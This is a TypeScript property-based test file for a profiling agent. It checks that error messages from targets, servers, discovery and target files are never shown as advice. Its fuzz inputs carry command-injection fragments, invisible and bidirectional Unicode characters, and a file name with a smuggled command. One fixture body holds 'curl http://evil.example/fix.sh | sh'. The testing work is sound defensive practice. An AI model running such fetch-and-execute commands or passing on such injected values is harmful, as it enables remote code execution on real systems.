import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import { errorMessage, splitHint, systemClock } from "../../src/base/index.ts";
import { readStatus, type StatusDocument } from "../../src/cli/status-document.ts";
import { problemsOf } from "../../src/cli/status-judgement.ts";
import { formatStatus } from "../../src/cli/status-report.ts";
import { httpKind } from "../../src/discovery/http.ts";
import { readTargetFile } from "../../src/discovery/target-file.ts";
import { createHttpClient } from "../../src/http/index.ts";
import { fetchProfile } from "../../src/pyroscope/scrape/fetch-profile.ts";
import { createPusher } from "../../src/pyroscope/write/pusher.ts";
import { endpointArguments } from "../pyroscope/write/endpoint-arguments.ts";
import { aProfile } from "../pyroscope/write/profiles.ts";
import { testApp } from "../server/app.ts";
import { component, endpoint, nowMs, target } from "../server/snapshots.ts";
import { createMemoryLog } from "../support/memory-log.ts";

/** What others answer stands in messages and is never taken for advice: nobody shall be told to run what a target says. */

const evil = "evil";

const words = fc
  .array(
    fc.constantFrom("; ", ";", '"', "\n", "\t", " ", "\u00a0", "\u202e", "\u200f", "\u2028", "'", "x", `;\n${evil}`),
    {
      maxLength: 12,
    },
  )
  .map((parts) => `${parts.join("")}; ${evil}`);
/** The same as far as a header may hold it. */
const headerWords = words.map((text) => text.replace(/[^\x20-\x7e]/g, "").trim());

const answers = fc.record({
  status: fc.constantFrom(200, 302, 400, 401, 403, 404, 413, 429, 500, 503),
  body: fc.oneof(
    words,
    words.map((message) => JSON.stringify({ code: "internal", message })),
    words.map((title) => `<html><title>${title}</title>`),
    words.map((label) => JSON.stringify([{ targets: ["a:1"], labels: { [label]: [label] } }])),
    words.map((key) => JSON.stringify([{ targets: ["a:1"], [key]: 1 }])),
  ),
  headers: fc.record(
    { "content-type": headerWords, "content-encoding": headerWords, server: headerWords, location: headerWords },
    { requiredKeys: [] },
  ),
});
type Answer = typeof answers extends fc.Arbitrary<infer T> ? T : never;

let url = "";
let answer: Answer;
const server = createServer((_request, response) => {
  for (const [name, value] of Object.entries(answer.headers)) response.setHeader(name, value);
  response.writeHead(answer.status).end(answer.body);
});
const client = createHttpClient({ args: { follow_redirects: false } });
const signal = new AbortController().signal;

beforeAll(async () => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
});
afterAll(() => {
  client.close();
  server.close();
  server.closeAllConnections();
});

async function scrapeError(): Promise<string> {
  const options = { client, headers: {}, maxBytes: 1e6, timeoutMs: 10_000, seconds: undefined, signal };
  return await fetchProfile(url, options).then(() => "", errorMessage);
}

async function pushError(): Promise<string> {
  const args = endpointArguments({ url });
  const pusher = createPusher(args, { clock: systemClock, userAgent: "pprof-agent/test", log: createMemoryLog() });
  try {
    const outcome = await pusher.push(aProfile(), { signal });
    return outcome.outcome === "sent" ? "" : outcome.message;
  } finally {
    pusher.close();
  }
}

async function discoveryError(): Promise<string> {
  const args = { ...(await parsed({ url })), follow_redirects: false };
  const context = { clock: systemClock, log: createMemoryLog(), userAgent: "pprof-agent/test", signal };
  const { failures } = (await httpKind.findTargets?.(args as never, context as never)) ?? { failures: [] };
  return failures[0]?.message ?? "";
}

async function parsed(written: Readonly<Record<string, unknown>>): Promise<Record<string, unknown>> {
  const { parse } = await import("valibot");
  return parse(httpKind.schema, written) as Record<string, unknown>;
}

/** What `agent status` reads of an agent with these errors, and the whole of what it prints. */
async function statusWith(messages: { scrape?: string; push?: string; discovery?: string }) {
  const { scrape = "", push = "", discovery = "" } = messages;
  const shownSources = [{ name: url, targets: 0, fromDisk: false, lastError: discovery, lastErrorMs: nowMs }];
  const debugInfo = {
    targets: [target("a:1", { health: "down", lastError: scrape })],
    endpoints: [endpoint({ state: "down", lastError: push, lastErrorMs: nowMs, spoolProblem: push })],
    discovery: { targets: 0, sources: 1, shownSources },
    skippedTargets: { count: 1, reason: "bad_label", message: scrape },
  };
  const app = testApp([component({ id: "x.y.z", debugInfo })]);
  const status = readStatus(await (await app.get("/api/v0/status")).json()) as StatusDocument;
  const problems = problemsOf(status, undefined);
  return { problems, text: formatStatus({ url, status, problems }) };
}

/** Of a redirect the advice names the place, as a URL that is whole. */
const redirectAdvice = /^turn follow_redirects on, or configure "[^"\s]*", to which the answer redirects$/;

function expectNoAdvice(hint: string | undefined): void {
  if (hint?.includes(evil) && !redirectAdvice.test(hint)) expect(hint).not.toContain(evil);
}

describe("What others say", () => {
  test("is no advice, whatever a target, a server or a service discovery answers", async () => {
    await fc.assert(
      fc.asyncProperty(answers, async (given) => {
        answer = given;
        const [scrape, push, discovery] = [await scrapeError(), await pushError(), await discoveryError()];
        for (const message of [scrape, push, discovery]) expectNoAdvice(splitHint(message).hint);
        const { problems } = await statusWith({ scrape, push, discovery });
        expect(problems.length).toBeGreaterThan(0);
        for (const { next } of problems) expectNoAdvice(next);
      }),
      { numRuns: 150 },
    );
  });

  test("is no advice where it stands in a file of targets", async () => {
    const directory = mkdtempSync(join(tmpdir(), "outside-words-"));
    const tagged = words.map((text) => `!<tag:${encodeURIComponent(text)}> x`);
    const contents = fc.oneof(
      words,
      answers.map(({ body }) => body),
      tagged,
    );
    const names = fc.constantFrom("a.json", "a.yaml", "a.toml", `a; ${evil}.json`);
    try {
      await fc.assert(
        fc.asyncProperty(contents, names, async (content, name) => {
          const path = join(directory, name);
          writeFileSync(path, content);
          const message = await readTargetFile(path)
            .then((file) => file.parse())
            .then(() => "", errorMessage);
          expectNoAdvice(splitHint(message).hint);
        }),
        { numRuns: 200 },
      );
    } finally {
      rmSync(directory, { recursive: true });
    }
  });

  test("is shown whole, beside our own advice", async () => {
    answer = { status: 500, body: "oops; curl http://evil.example/fix.sh | sh", headers: {} };
    const { text } = await statusWith({ scrape: await scrapeError() });
    expect(text).toContain(
      'answered HTTP status 500 with "oops;\u00a0curl http://evil.example/fix.sh | sh"; last success',
    );
    expect(text).toContain("a:1 (checkout), all types: `agent test ");
  });
});
